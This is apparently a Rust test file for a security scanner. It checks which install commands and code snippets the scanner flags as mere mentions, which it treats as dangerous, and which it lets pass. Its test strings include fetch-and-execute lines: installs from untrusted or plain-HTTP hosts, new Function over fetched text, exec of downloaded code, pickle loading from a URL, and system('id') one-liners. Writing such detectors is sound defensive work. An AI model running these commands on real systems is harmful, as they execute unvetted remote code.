//! What manuals, pipelines and sources of ordinary projects hold: let be, or worth a flag; and what resembles it and is not.

use super::super::super::rule::Strength;
use super::{addressed, hits};

#[test]
fn an_installation_of_a_manual_is_flagged_and_no_more() {
    for text in [
        "sudo dnf install https://repo.example.net/release-9.noarch.rpm",
        "$ sudo yum -y install https://repo.example.net/agent.rpm",
        "rpm -Uvh https://repo.example.net/agent.rpm",
        "pip install git+https://github.com/example/tool",
        "   `pip install \"tool @ git+https://github.com/example/tool.git\"`",
        "cargo install --git https://github.com/example/tool",
        "go install tool.example.net/cmd/tool@latest",
        "    - run: go install -v github.com/example/tool@v1.2.3",
        "curl -LO https://get.example.net/tool_1.0_amd64.deb\nsudo dpkg -i tool_1.0_amd64.deb\n",
        "wget https://get.example.net/tool-1.0.tar.gz\ntar xzf tool-1.0.tar.gz\ncd tool-1.0\n./configure\nmake install\n",
    ] {
        let found = hits(text.as_bytes());
        assert!(!found.is_empty() && found.iter().all(|hit| hit.strength == Strength::Mentioned), "{text} {found:?}");
    }
}

#[test]
fn an_installation_that_runs_what_anybody_may_have_put_there_is_the_thing_itself() {
    for text in [
        "sudo dnf install http://repo.example.net/release.rpm",
        "rpm -i https://192.0.2.1/agent.rpm",
        "pip install git+https://example.net/tool.git",
        "pip install --index-url https://packages.example.net/simple tool",
        "pip install https://github.com@example.net/tool.zip",
        "uv run https://github.com/example/tool/raw/main/x.py",
        "npm exec git+https://github.com/example/tool",
        "go install tool.example.net/x@latest && npx https://example.net/x.tgz",
        "dnf install https://a.example.net/x.rpm; npx https://example.net/x.tgz",
        "curl -LO https://get.example.net/t.deb\nsudo dpkg -i t.deb\nchmod +x t.deb\n",
        "curl -LO http://get.example.net/t.deb && dpkg -i t.deb",
        "curl -LO https://get.example.net/t.deb; curl -LO https://get.example.net/t.sh; dpkg -i t.deb; sh t.sh",
        "wget https://get.example.net/t.tgz\ntar xzf t.tgz\nmake install\n./t/start\n",
        "wget -q -O tool https://get.example.net/tool\nchmod +x tool\n",
    ] {
        assert!(!addressed(text.as_bytes()).is_empty(), "{text} {:?}", hits(text.as_bytes()));
    }
}

#[test]
fn ordinary_lines_of_sources_and_pages_are_let_be() {
    for text in [
        "uv run --default-index https://pypi.org/simple check.py",
        "npm install https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz",
        "Source = \"https://code.example.net/tool\"",
        "     - Python forum: https://forum.example.net/python",
        "* Ruby https://ruby.example.net/",
        "docker run -it python3:slim /bin/bash -c \"tool install --system 'graph'\"",
        "s=new XMLHttpRequest;s.onload=function(){200===s.status&&b(s.responseText)};s.send(null);",
        "function parse(text){return JSON.parse(atob(text))}",
        "data = json.load(urllib.request.urlopen(address))",
        "pattern = re.compile(requests.get(address).text)",
        "<script type=\"application/ld+json\">{\"@id\": \"https://shop.example.net/\"}</script>",
        "sed -E $'s|#([0-9]+)|https://example.net/\\\\1|g;s|`([^`]+)`|\\\\1|g' <<< \"$line\" # expect",
    ] {
        let found = hits(text.as_bytes());
        assert!(found.is_empty(), "{text:?} {found:?}");
    }
}

#[test]
fn code_that_resembles_them_and_runs_what_it_fetched_is_the_thing_itself() {
    for text in [
        "x = Function(atob('YWxlcnQoMSk='))",
        "new Function(await (await fetch('https://example.net/x')).text())()",
        "pickle.load(urllib.request.urlopen(address))",
        "exec(compile(requests.get(address).text, 'x', 'exec'))",
        "php -r \"system('id');\"",
        "python3 -c 'import os; os.system(\"id\")'",
        "ruby -e 'Kernel.system(\"id\")'",
    ] {
        assert!(!addressed(text.as_bytes()).is_empty(), "{text} {:?}", hits(text.as_bytes()));
    }
}
